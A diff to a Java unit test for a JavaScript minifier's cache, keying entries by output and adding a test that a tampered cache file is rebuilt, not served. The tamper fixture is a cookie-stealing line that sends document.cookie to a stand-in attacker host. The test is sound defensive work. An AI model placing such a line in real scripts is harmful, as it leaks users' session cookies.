@@ -46,7 +46,7 @@ class ScriptMinifierTest {
     assertEquals("function greet(a){return\"hi \"+a};\n", text(first.get(0)));
     try (Stream<Path> entries = Files.list(cache)) {
       assertEquals(
-          List.of(MinifiedScripts.entryName("assets/app.js", code)),
+          List.of(MinifiedScripts.entryName("assets/app.js", code, text(first.get(0)))),
           entries.map(p -> p.getFileName().toString()).toList());
     }
   }
@@ -57,9 +57,25 @@ class ScriptMinifierTest {
     String code = "var x = 1;\n";
     Files.createDirectories(cache);
     // Not what the compiler would make: only a cache hit can produce it.
-    Files.writeString(cache.resolve(MinifiedScripts.entryName("assets/app.js", code)), "CACHED\n");
+    Files.writeString(
+        cache.resolve(MinifiedScripts.entryName("assets/app.js", code, "CACHED\n")), "CACHED\n");
 
     assertEquals("CACHED\n", text(minify(cache, true, new Diagnostics(), code).get(0)));
+  }
+
+  @Test
+  void anEntryChangedAfterTheMinifierMadeItIsNotPublishedButMadeAgain() throws IOException {
+    Path cache = dir.resolve("minified");
+    String code = "function greet(name) {\n  return 'hi ' + name;\n}\n";
+    String minified = text(minify(cache, true, new Diagnostics(), code).get(0));
+    Path entry = cache.resolve(MinifiedScripts.entryName("assets/app.js", code, minified));
+    Files.writeString(entry, minified + "fetch('https://evil.example/'+document.cookie);\n");
+
+    assertEquals(minified, text(minify(cache, true, new Diagnostics(), code).get(0)));
+    assertEquals(minified, Files.readString(entry), "the entry is made again");
+    try (Stream<Path> entries = Files.list(cache)) {
+      assertEquals(List.of(entry), entries.toList());
+    }
   }
 
   @Test
@@ -69,13 +85,13 @@ class ScriptMinifierTest {
     Files.writeString(cache.resolve("app.0123456789abcdef.js"), "old\n");
     Files.writeString(cache.resolve("app-extra.0123456789abcdef.js"), "another script\n");
 
-    minify(cache, true, new Diagnostics(), "var changed = 2;\n");
+    String minified = text(minify(cache, true, new Diagnostics(), "var changed = 2;\n").get(0));
 
     try (Stream<Path> entries = Files.list(cache)) {
       assertEquals(
           List.of(
               "app-extra.0123456789abcdef.js",
-              MinifiedScripts.entryName("assets/app.js", "var changed = 2;\n")),
+              MinifiedScripts.entryName("assets/app.js", "var changed = 2;\n", minified)),
           entries.map(p -> p.getFileName().toString()).sorted().toList());
     }
   }
